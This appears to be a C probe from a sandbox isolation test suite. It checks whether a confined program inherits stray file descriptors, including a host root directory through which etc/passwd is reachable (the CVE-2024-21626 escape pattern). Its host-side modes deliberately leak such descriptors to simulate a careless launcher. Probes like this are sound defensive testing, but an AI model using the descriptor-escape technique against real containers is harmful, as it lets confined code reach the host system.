/*
 * Uses what the caller left open: one directory descriptor of the host is the whole host
 * (CVE-2024-21626).
 */
#include "attack.h"
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

enum { MOST_FDS = 65536 };

static const char *kind(mode_t mode)
{
    if (S_ISDIR(mode))
        return "directory";
    if (S_ISSOCK(mode))
        return "socket";
    if (S_ISREG(mode))
        return "file";
    return "other";
}

/* Tries every number instead of /proc: a list can be masked, a descriptor cannot. */
static void attack(char **args)
{
    struct stat st;
    char found[256] = "";
    size_t at = 0;
    bool is_root = false;

    (void)args;
    for (int fd = 0; fd < MOST_FDS; fd++) {
        if (fstat(fd, &st) < 0)
            continue;
        /* A pipe, or the sandbox's own null device: nothing that leads back to the host. */
        bool is_stream =
                fd <= 2 &&
                (S_ISFIFO(st.st_mode) || (S_ISCHR(st.st_mode) && st.st_rdev == makedev(1, 3)));
        if (S_ISDIR(st.st_mode) && faccessat(fd, "etc/passwd", F_OK, 0) == 0)
            is_root = true;
        if (!is_stream && at < sizeof(found))
            at += (size_t)snprintf(
                    found + at, sizeof(found) - at, " %d:%s", fd, kind(st.st_mode));
    }
    if (at)
        succeeded("inherit", "%s", found);
    else
        refused("inherit", "only 0 1 2");
    if (is_root)
        succeeded("host-root", "through a descriptor");
    else
        invisible("host-root");

    DIR *dir = opendir("/proc/self/fd");
    if (!dir)
        cannot("/proc/self/fd: %s", strerror(errno));
    int listed = 0;
    for (struct dirent *e; (e = readdir(dir));)
        listed += e->d_name[0] != '.' && atoi(e->d_name) > 2 && atoi(e->d_name) != dirfd(dir);
    closedir(dir);
    if (listed)
        succeeded("list", "%d more", listed);
    else
        refused("list", "only 0 1 2");
}

static void control(char **args)
{
    char byte;
    (void)args;
    works("stdin-ends", read(0, &byte, 1) == 0);
    works("stdout", write(1, "", 0) == 0);
    works("stderr", write(2, "", 0) == 0);
    works("open-own", open("/tmp", O_RDONLY | O_DIRECTORY | O_CLOEXEC) == 3);
}

/* On the host: runs a program as a careless caller would. */
static void leak(char **args)
{
    int pair[2];
    if (dup2(open("/", O_RDONLY | O_DIRECTORY), 7) < 0 ||
            socketpair(AF_UNIX, SOCK_STREAM, 0, pair) < 0 ||
            dup2((int)memfd_create("left", 0), 33) < 0 ||
            dup2(open("/etc/passwd", O_RDONLY), 900) < 0)
        cannot("descriptors: %s", strerror(errno));
    execvp(args[0], args);
    cannot("%s: %s", args[0], strerror(errno));
}

/* On the host: runs a program with a socket as its standard input. */
static void with_socket(char **args)
{
    int pair[2];
    if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, pair) < 0 || dup2(pair[0], 0) < 0)
        cannot("socket: %s", strerror(errno));
    shutdown(pair[1], SHUT_WR);
    execvp(args[0], args);
    cannot("%s: %s", args[0], strerror(errno));
}

int main(int argc, char **argv)
{
    return attack_main(argc, argv,
            (struct attack_mode[]){ { "attack", attack }, { "control", control },
                    { "leak", leak }, { "socket", with_socket }, { 0 } });
}
